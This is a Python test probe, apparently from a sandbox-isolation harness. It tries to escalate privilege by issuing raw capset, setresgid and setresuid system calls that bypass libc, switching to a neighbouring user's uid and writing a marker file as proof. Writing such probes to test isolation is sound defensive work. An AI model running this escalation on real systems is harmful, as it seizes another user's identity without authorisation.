"""Raise and switch by system calls made without the C library's functions."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import ctypes
    import os
    import platform
    import struct

    # Of asm/unistd_64.h, and of asm-generic/unistd.h that the newer architectures share.
    old, new = (126, 119, 117), (91, 149, 147)
    capset, setresgid, setresuid = old if platform.machine() == "x86_64" else new
    libc = ctypes.CDLL(None, use_errno=True)

    def call(number: int, *arguments: object) -> None:
        if libc.syscall(ctypes.c_long(number), *arguments) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    both = 1 << 6 | 1 << 7
    header = struct.pack("=Ii", 0x20080522, 0)
    refusal: OSError | None = None
    try:
        call(capset, header, struct.pack("=6I", both, both, 0, 0, 0, 0))
    except OSError as error:
        refusal = error
    uid = ctypes.c_uint(given.neighbour_uid)
    try:
        call(setresgid, uid, uid, uid)
        call(setresuid, uid, uid, uid)
    except OSError as error:
        raise refusal or error from None
    os.close(os.open(f"{given.drop}/raw", os.O_CREAT | os.O_WRONLY, 0o644))
    return os.getresuid()


def proof(scene: Scene) -> str | None:
    return scene.gained_identity()
